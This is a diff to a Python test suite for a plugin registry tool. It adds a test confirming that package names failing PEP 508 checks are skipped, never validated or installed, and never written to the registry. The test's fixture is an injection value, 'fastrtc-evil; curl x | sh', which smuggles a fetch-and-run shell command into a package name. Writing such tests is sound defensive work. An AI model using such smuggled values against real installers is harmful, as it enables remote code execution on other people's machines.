@@ -27,6 +27,7 @@ from fastrtc_registry.catalog.merge import (
     dump_registry,
     merge_registry,
 )
+from fastrtc_registry.catalog.update import update_registry
 from fastrtc_registry.index import EntryPointSpec, ProjectFacts
 from fastrtc_registry.names import canonicalize
 
@@ -403,3 +404,19 @@ def test_merge_records_bench_runs_for_the_listed_package_only() -> None:
     assert result.doc["plugins"][0]["bench"] == figures.as_dict()
     assert result.validated == ("vad humaware: benchmarked",)
     assert lint_bytes(dump_registry(result.doc).encode()).problems == ()
+
+
+def test_names_failing_pep_508_are_never_handed_to_validate(tmp_path: Path) -> None:
+    path = tmp_path / "registry.json"
+    path.write_text(dump_registry(merge_registry(_doc(CURATED)).doc))
+    evil = "fastrtc-evil; curl x | sh"
+    result = update_registry(
+        path,
+        index_url="http://127.0.0.1:9/simple/",
+        found=[FoundPlugin("evil", "vad", evil, "1.0")],
+        validate_only=[evil],
+    )
+    assert result.notes == ()  # nothing was tried, so nothing failed to install
+    assert result.validated == () and len(result.skipped) == 1
+    assert "PEP 508" in result.skipped[0]
+    assert evil not in path.read_text()
